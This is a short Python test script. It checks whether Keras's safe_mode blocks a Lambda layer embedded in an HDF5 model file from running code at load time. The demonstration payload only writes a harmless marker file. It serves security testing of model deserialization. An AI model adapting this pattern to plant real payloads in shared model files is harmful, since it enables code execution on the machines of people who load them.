# Runtime: tf2.21
# Runtime: tf2.15
import os

import keras

print("Keras", keras.__version__)
# The attacker's model again, saved in the legacy HDF5 format this time.
inputs = keras.Input(shape=(3,))
outputs = keras.layers.Lambda(
    lambda x: (open("pwned_h5.txt", "w").write("written by a Lambda layer\n"), x * 2.0)[1]
)(inputs)
keras.Model(inputs, outputs).save("lambda_model.h5")
os.remove("pwned_h5.txt")  # written when the model was built, above

# The victim loads it with safe_mode=True, and calls nothing.
try:
    keras.models.load_model("lambda_model.h5", safe_mode=True)
    print("loaded")
except ValueError as e:
    print("ValueError:", str(e).split(". ")[0])
print("pwned_h5.txt exists:", os.path.exists("pwned_h5.txt"))
